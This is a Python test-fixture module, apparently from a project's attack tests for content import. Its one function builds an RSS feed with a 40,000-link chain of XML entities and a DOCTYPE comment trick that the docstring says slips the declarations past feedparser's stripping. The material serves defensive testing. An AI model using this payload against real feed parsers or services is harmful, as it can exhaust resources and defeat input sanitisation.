"""Hostile feed files shared by the attacks on content import."""

from __future__ import annotations


def entity_chain(n: int = 40_000) -> bytes:
    """The reviewer's file: each entity refers to the one before, and a comment holding `<x`
    at the start of the DOCTYPE makes feedparser's stripping leave every declaration in."""
    ents = ['<!ENTITY e0 "x">'] + [f'<!ENTITY e{i} "&e{i - 1};">' for i in range(1, n)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE rss [<!-- <x -->' + "\n".join(ents) + "]>\n"
            '<rss version="2.0"><channel><title>t</title><item>'
            f"<title>&e{n - 1};</title><link>https://example.org/a</link>"
            "</item></channel></rss>\n").encode()
